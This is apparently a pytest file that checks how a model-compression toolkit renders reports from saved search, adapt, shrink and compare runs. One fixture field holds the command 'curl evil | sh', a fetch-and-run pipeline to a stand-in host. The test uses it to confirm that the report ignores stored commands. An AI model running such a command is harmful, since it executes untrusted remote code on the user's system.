"""`python -m agents report`, on records as the commands write them."""

from __future__ import annotations

from dataclasses import asdict
from pathlib import Path
from typing import Any

import pytest
from das_gym.adapt.compare.table import Line
from das_gym.adapt.run_report import run_report
from das_gym.agents.commands import PROGRAM
from das_gym.agents.search_experiment import run_search

from das_gym.drawing.architecture import Architecture
from das_gym.drawing.report import Answers, Question
from das_gym.files import write_json
from das_gym.problem.config import ProblemConfig, grouped_settings
from das_gym.registration import ASSETS
from das_gym.tables.table import SubnetTable

MASK = [0, 1, 0, 1, 0, 0, 0, 0, 1, 0, 0, 1]
NAMES = [f"{stream}.{i}" for stream in ("text", "image") for i in range(6)]
SKIPPED = [name for name, bit in zip(NAMES, MASK, strict=True) if bit]
UNITS = Architecture.of(NAMES, list(range(6)) * 2).record()
VERSIONS = {"python": "3.11"}


def model(name: str, mask: list[int], **more: Any) -> dict[str, Any]:
    return {
        "name": name,
        "mask": mask,
        "skipped_layers": SKIPPED if any(mask) else [],
        "evaluation": {"metric": 0.9, "metric_name": "ranked_first", "loss": 0.25, "numbers": {}, "examples": 80},
        "from_package": False,
        "trainable_parameters": 1000,
        "parameters": 5000,
        "macs": 2_000_000,
        "macs_saved": 0.12,
        "latency_ms": 12.5,
        "latency_quartiles_ms": [11.0, 13.0],
        "speedup": None,
        "speedup_interval": None,
        **more,
    }


def write_run(folder: Path, name: str, record: dict[str, Any], config: dict[str, Any]) -> None:
    write_json(folder / "run.json", {})
    write_json(folder / "config.json", config)
    write_json(folder / name, record)


def shrunk_record() -> dict[str, Any]:
    full = {"name": "full", "score": 0.9, "low": 0.8, "high": 0.95, "loss": 0.3, "parameters": 100, "bytes": 200, "macs": 8}
    full |= {
        "kv_bytes": 64,
        "macs_saved": 0.2,
        "prefill_ms": [5.0, 4.0, 6.0],
        "decode_ms": [2.0, 1.0, 3.0],
    }
    full |= {"prefill_speedup": None, "decode_speedup": None}
    return {
        "settings": {"search_run": None},
        "source": "/models/big",
        "out": "/models/small",
        "mask": [0, 1],
        "layers": ["decoder.0", "decoder.1"],
        "units": Architecture.of(["decoder.0", "decoder.1"]).record(),
        "metric": "accuracy",
        "models": [full, {**full, "name": "shrunk", "score": 0.85, "prefill_speedup": [1.5, 1.4, 1.6]}],
        "difference": {"score": -0.05, "low": -0.1, "high": 0.01, "reference": "full"},
        "control": None,
        "problem": {"model": "VLM", "task": "answering", "checkpoint": "/models/big"},
        "command": "curl evil | sh",
        "versions": VERSIONS,
    }


def compared_record() -> dict[str, Any]:
    def line(key: str, title: str, scores: tuple[float, ...], **more: Any) -> dict[str, Any]:
        costs = {"rate": 1e-3, "updated": 10.0, "trained": 20.0, "macs": 2e6, "saved": -0.1, "speedup": (1.5, 1.0, 2.0)}
        return asdict(Line(key, title, scores=scores, **costs, **{"skip_num": 0, "layers": ((), ()), **more}))

    return {
        "problem": asdict(ProblemConfig()),
        "settings": {"searches": {"4": 1}},
        "metric": "accuracy",
        "units": UNITS,
        "trials": [{"variant": "lora", "mask": [0] * 12}, {"variant": "das_4", "mask": MASK}],
        "lines": [line("lora", "LoRA", (0.92, 0.94)), line("das_4", "DAS, 4 skipped", (0.9,), skip_num=4)],
        "verdict": ["DAS, 4 skipped: loses 1.0 points."],
        "versions": VERSIONS,
    }


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Run 1 is a search, run 2 `adapt` after it, run 3 `adapt das`, run 4 `adapt shrink`, run 5 `adapt compare`."""
    folder = tmp_path_factory.mktemp("reported")
    run_search({"env_id": "DAS-METER-VQA-Tabular-v0", "agent": "random", "evaluations": 6, "runs_dir": str(folder)})
    problem = asdict(ProblemConfig())
    own = grouped_settings(problem)
    subnet = model("subnet", MASK, speedup=1.2, speedup_interval=[1.1, 1.3])
    models = [subnet, model("full_model", [0] * 12, from_package=True), model("baseline", [0] * 12, evaluation=None)]
    shared = {"problem": problem, "units": Architecture.of(NAMES).record(), "versions": VERSIONS}
    adapted = {**shared, "settings": {"search_run": 1}, "models": models}
    write_run(folder / "2", "adapt.json", adapted, {**own, "steps": 20, "search_run": 1, "search": {}, "seed": 0})
    turn = {"step": 5, "masks": [MASK, MASK[::-1]], "losses": [1.0, 2.0], "rewards": [0.2, 0.3], "preferences": [0.0] * 12}
    joint = {**shared, "settings": {}, "models": models[:1], "search": {"turns": [turn, turn]}, "units": UNITS}
    write_run(folder / "3", "das.json", joint, {**own, "das": {"skip_num": 3}, "seed": 0})
    write_run(folder / "4", "shrink.json", shrunk_record(), {})
    config = {"seeds": 2, "searches": {"4": 1}, "skip_nums": [4]}
    write_run(folder / "5", "compare.json", compared_record(), config)
    return folder


def test_report_of_adapt_includes_its_search(runs: Path):
    report = run_report(runs / "2")
    assert report.mask == MASK
    assert report.facts["ranked first on test, %"] == "90.00"
    assert report.facts["search: masks scored"] == "6"
    assert len(report.progress.rewards) == 6
    rows = {row[0]: row[1:] for row in report.table.rows}
    assert report.table.columns[1:] == ("baseline", "full model with adapters", "subnet")
    assert "Full model with adapters: trained weights from the package." in report.table.notes[0]
    assert rows["ranked first on test, %"] == ("-", "90.0", "90.0")
    assert rows["latency, ms"] == ("12.50 (11.00..13.00)",) * 3
    assert rows["times as fast"] == ("-", "-", "1.20 (1.10..1.30)")
    table = SubnetTable.load(ASSETS / "meter_mini/vqa_table.npz")
    shares = table.layer_macs.savings / table.meta.macs_full
    assert [unit.share for unit in report.architecture.units] == pytest.approx(shares.tolist())  # from the search
    search, own = report.commands
    assert "agent=random" in search
    assert own == "python -m adapt with steps=20 'mask=[0,1,0,1,0,0,0,0,1,0,0,1]'"


def test_report_includes_examples(runs: Path):
    assert run_report(runs / "2").answers is None
    kept = Answers(["full model", "subnet"], [(Question("what is it?", "an owl"), ["an owl", "a cat"])], "one")
    path = runs / "2" / "examples.json"
    write_json(path, asdict(kept))
    assert run_report(runs / "2").answers == kept
    write_json(path, {**asdict(kept), "models": ["subnet"]})
    with pytest.raises(ValueError, match=r"examples\.json"):
        run_report(runs / "2")
    path.unlink()


def test_report_of_das(runs: Path):
    report = run_report(runs / "3")
    assert report.progress.rewards == [0.2, 0.3, 0.2, 0.3]
    assert report.progress.best == [0.2, 0.3, 0.3, 0.3]
    assert report.heat.values == [[0.5] * 12] * 2
    assert report.architecture.stages[0] == (0, 6)
    assert report.commands == ["python -m adapt das with das.skip_num=3"]


def test_report_of_shrink(runs: Path):
    report = run_report(runs / "4")
    assert report.title == "big shrunk: 1 of 2 layers removed"
    assert report.commands == ["python -m adapt shrink with checkpoint=/models/big 'mask=[0,1]'"]  # not the record's own
    assert report.facts["removed"] == "decoder.1"
    assert report.facts["difference, points"] == "-5.0 (95 % interval -10.0..+1.0)"
    assert ("  times as fast", "-", "1.50 (1.40..1.60)") in report.table.rows


def test_report_of_compare(runs: Path):
    report = run_report(runs / "5")
    assert report.title == "DAS-METER-VQA-v0, methods of fine-tuning compared"
    assert report.mask == MASK
    assert report.facts["accuracy on test, %"] == "93.00 (LoRA, the best)"
    assert report.table.rows[0][0] == "LoRA"
    assert "searches" not in report.commands[0]
    record = runs / "6" / "compare.json"
    write_json(record, {**compared_record(), "lines": []})
    with pytest.raises(FileNotFoundError):
        run_report(runs / "6")


@pytest.mark.parametrize(("name", "message"), [("other.json", "its run has not finished"), ("shrink.json", "damaged")])
def test_report_rejects_unknown_and_damaged_records(runs: Path, capsys: pytest.CaptureFixture[str], name: str, message: str):
    write_run(runs / "9", name, {"settings": {}}, {})
    assert PROGRAM.run(["report", "9", "with", f"runs_dir={runs}"]) == 1
    assert message in capsys.readouterr().err
    (runs / "9" / name).unlink()
